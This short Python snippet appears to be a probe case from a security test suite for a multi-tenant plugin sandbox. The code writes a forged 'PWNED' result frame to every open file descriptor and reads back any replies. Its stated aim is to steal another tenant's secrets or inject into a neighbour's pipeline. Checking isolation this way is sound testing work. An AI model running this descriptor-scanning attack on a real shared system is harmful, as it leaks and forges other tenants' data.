# family: frames-of-ours
# kind: value
# tries: every descriptor that is open: to read what others are told, to write what others say
# success looks like: TENANT-B-SECRET, or PWNED in the neighbour's payloads
def job(plugin):
  @LIBC@
  select = sys.modules['select']
  body = b'{"did":"payload","fields":{"EXEC_RESULT":"PWNED","EE_PAYLOAD_PATH":["x","neighbour","CUSTOM_EXEC_01","one"],"PIPELINE":"neighbour","INSTANCE_ID":"one"}}'
  frame = len(body).to_bytes(4, 'big') + body
  answers = []
  for fd in range(0, 64):
    try:
      answers.append((fd, os.write(fd, frame)))
      watch = select.poll()
      watch.register(fd, 1)
      if watch.poll(0):
        answers.append((fd, os.read(fd, 4000)))
    except OSError:
      pass
  return answers
